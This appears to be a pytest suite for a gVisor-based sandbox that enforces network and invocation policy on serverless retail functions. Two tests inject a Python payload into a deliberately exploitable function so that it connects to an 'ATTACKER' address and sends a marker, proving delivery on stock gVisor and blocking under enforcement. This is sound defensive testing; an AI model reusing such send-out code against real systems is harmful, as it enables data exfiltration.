"""What the product is for: a message out of order does not leave, and the evidence is the receiver's.

Each test that claims a denial first shows, with the same code on stock gVisor, that the message would have arrived.
"""

import json
import secrets
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .conftest import Gateway, Lines, supervisorctl, until

RECEIVE = "product-photos-3-receive"
SUCCESS = "product-photos-4-success"
MICROBENCH = "product-photos-1-microbench"
MASTER = "product-photos-master"
REPORT = "product-photos-6-report"
ATTACKER = ("10.137.0.1", 9998)


class Receiver:
    """A server that is in no policy. It keeps what it got: the receiver's own evidence."""

    def __init__(self) -> None:
        self.connections = 0
        self.received = b""
        self._socket = socket.create_server(ATTACKER)
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed by the fixture: the test is over
                return
            self.connections += 1
            with connection:
                connection.settimeout(10)
                while chunk := connection.recv(65536):
                    self.received += chunk

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(timeout=15)
        assert not self._thread.is_alive()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    server = Receiver()
    yield server
    server.close()


def exploit(body: dict[str, Any], code: str) -> dict[str, Any]:
    """The input that makes the vulnerable variant run `code`."""
    return {**body, "exploit": code}


SEND_AWAY = """
import socket
s = socket.create_connection(({host!r}, {port}), timeout=5)
s.sendall({marker!r}.encode())
s.close()
"""


def test_a_guarded_function_does_its_work(gateway: Gateway, deployed: Any, sample: Any, verdicts: Lines, image_requests: Lines) -> None:
    """Enforcement does not break the application: five statements, one image, one answer."""
    deployed(RECEIVE, runtime="kalium", app="hello-retail")

    reply = gateway.invoke(RECEIVE, sample(RECEIVE))

    assert reply.status == 200, reply
    assert json.loads(reply.body)["success"] == "true"
    image_requests.until(lambda line: line["path"] == "/image.jpg" and line["status"] == 200, "the image server's line")
    verdicts.until(lambda line: line["kind"] == "mysql" and line["allowed"] and line["mode"] == "enforce", "an allowed statement")
    assert [line for line in verdicts.read() if not line["allowed"]] == []


def test_a_call_passes_from_function_to_function(gateway: Gateway, deployed: Any, sample: Any, verdicts: Lines) -> None:
    """The master invokes three functions that are no entries: each start is granted by a token of the same call."""
    env = {
        "URL_RECEIVE": f"http://gateway:8080/function/{RECEIVE}",
        "URL_SUCCESS": f"http://gateway:8080/function/{SUCCESS}",
        "URL_REPORT": f"http://gateway:8080/function/{REPORT}",
    }
    for function in (RECEIVE, SUCCESS, REPORT, MASTER):
        deployed(function, runtime="kalium", app="hello-retail-strict", env=env)

    reply = gateway.invoke(MASTER, sample(MASTER), "/photos")

    assert reply.status == 200, reply
    assert json.loads(reply.body)["outcome"] == "photo taken"
    calls = until(lambda: {line["call"] for line in verdicts.read() if line["kind"] in ("mysql", "invoke") and line["allowed"]}, "the verdicts")
    assert len(calls) == 1, calls


def test_a_stranger_cannot_start_a_function_that_is_no_entry(gateway: Gateway, deployed: Any, sample: Any, verdicts: Lines) -> None:
    """The start is refused by the guard before the program reads a byte."""
    deployed(SUCCESS, runtime="kalium", app="hello-retail-strict")

    reply = gateway.invoke(SUCCESS, sample(SUCCESS))

    assert reply.status == 403, reply
    verdicts.until(lambda line: line["reason"] == "not_an_entry" and line["function"] == SUCCESS, "the refused start")


def test_a_forged_token_is_refused_even_at_an_entry(gateway: Gateway, deployed: Any, sample: Any) -> None:
    """A token that the controller did not issue is worse than none."""
    deployed(SUCCESS, runtime="kalium", app="hello-retail")

    forged = gateway.request("POST", f"/function/{SUCCESS}", sample(SUCCESS), {"X-Kalium-Token": secrets.token_hex(16)})
    honest = gateway.invoke(SUCCESS, sample(SUCCESS))

    assert (forged.status, honest.status) == (403, 200)


def test_an_exploited_function_cannot_reach_a_stranger(gateway: Gateway, deployed: Any, sample: Any, verdicts: Lines, receiver: Receiver) -> None:
    """On stock gVisor the bytes arrive; under enforcement not even a connection does."""
    delivered, blocked = secrets.token_hex(16), secrets.token_hex(16)
    code = SEND_AWAY.format(host=ATTACKER[0], port=ATTACKER[1], marker="{}")

    deployed(RECEIVE, runtime="stock", image=f"attack/{RECEIVE}")
    gateway.invoke(RECEIVE, exploit(sample(RECEIVE), code.replace("'{}'", repr(delivered))))
    until(lambda: delivered.encode() in receiver.received, "the marker on stock gVisor")
    connections = receiver.connections

    deployed(RECEIVE, runtime="kalium", app="hello-retail", image=f"attack/{RECEIVE}")
    gateway.invoke(RECEIVE, exploit(sample(RECEIVE), code.replace("'{}'", repr(blocked))))

    denial = verdicts.until(lambda line: line["kind"] == "connect" and not line["allowed"], "the denied connect")
    assert denial["reason"] == "unknown_peer"
    assert receiver.connections == connections
    assert blocked.encode() not in receiver.received


def test_a_dead_controller_stops_starts_and_its_return_heals(gateway: Gateway, deployed: Any, sample: Any, image_requests: Lines) -> None:
    """Default deny: without a controller no invocation begins, and nothing has to be redeployed afterwards."""
    deployed(MICROBENCH, runtime="kalium", app="hello-retail")
    assert gateway.invoke(MICROBENCH, sample(MICROBENCH)).status == 200
    image_requests.until(lambda line: line["status"] == 200, "the first request at the image server")
    seen = len(image_requests.read())

    try:
        assert "stopped" in supervisorctl("stop", "kalium-controller")
        refused = gateway.invoke(MICROBENCH, sample(MICROBENCH))
        assert refused.status == 503, refused
        assert b"controller_unavailable" in refused.body
        assert len(image_requests.read()) == seen
    finally:
        supervisorctl("start", "kalium-controller")

    until(lambda: gateway.invoke(MICROBENCH, sample(MICROBENCH)).status == 200, "the function to work again")


def test_a_broken_policy_changes_nothing(gateway: Gateway, deployed: Any, sample: Any) -> None:
    """The last good policy stays in force when its file is damaged."""
    path = Path("/etc/kalium/policies/hello-retail.signed.json")
    good = path.read_bytes()
    deployed(SUCCESS, runtime="kalium", app="hello-retail")

    try:
        path.write_bytes(good.replace(b'"signature":"', b'"signature":"AAAA', 1))
        log = Lines(Path("/var/log/kalium/controller.log"))
        until(lambda: b"policy" in log.path.read_bytes()[log.offset :], "the controller to notice")
        assert gateway.invoke(SUCCESS, sample(SUCCESS)).status == 200
    finally:
        path.write_bytes(good)


def test_a_sandbox_without_a_guard_sends_nothing(receiver: Receiver) -> None:
    """The guarded runtime, started by hand without a configuration, has no way out; stock has."""
    instance, address = "kalium-test-bare", "10.137.0.251"
    image = json.loads(Path("/var/lib/kalium/images/images.json").read_text(encoding="utf-8"))[SUCCESS]["image"]
    code = "print('started', flush=True)\n" + SEND_AWAY.format(host=ATTACKER[0], port=ATTACKER[1], marker="bare")

    def run(runtime: str) -> subprocess.CompletedProcess[str]:
        for command in (
            f"ip netns add {instance}",
            f"ip link add kvt0 type veth peer name eth0 netns {instance}",
            "ip link set kvt0 master kalium0 up",
            f"ip -n {instance} addr add {address}/24 dev eth0",
            f"ip -n {instance} link set eth0 up",
            f"ip -n {instance} link set lo up",
        ):
            subprocess.run(command.split(), check=True, timeout=10)
        try:
            # Cgroups as the engine and its flags have them: not every host hands them out.
            podman = ["podman", "--cgroup-manager", "cgroupfs", "--runtime", runtime, "run", "--rm", "--cgroups", "no-conmon", "--pull", "never"]
            podman += ["--runtime-flag=network=sandbox", "--runtime-flag=ignore-cgroups"]
            network = ["--network", f"ns:/run/netns/{instance}", "--entrypoint", "python3", image, "-c", code]
            return subprocess.run([*podman, *network], capture_output=True, text=True, timeout=60, check=False)
        finally:
            subprocess.run(["ip", "netns", "del", instance], check=True, timeout=10)

    stock = run("/opt/kalium/bin/runsc-stock")
    assert (stock.returncode, stock.stdout) == (0, "started\n"), stock
    until(lambda: b"bare" in receiver.received, "the bytes from stock gVisor")
    connections = receiver.connections

    bare = run("/opt/kalium/bin/runsc-kalium")
    assert bare.stdout == "started\n", bare  # the program ran: it is its message that had no way out
    assert "PermissionError" in bare.stderr, bare
    assert receiver.connections == connections
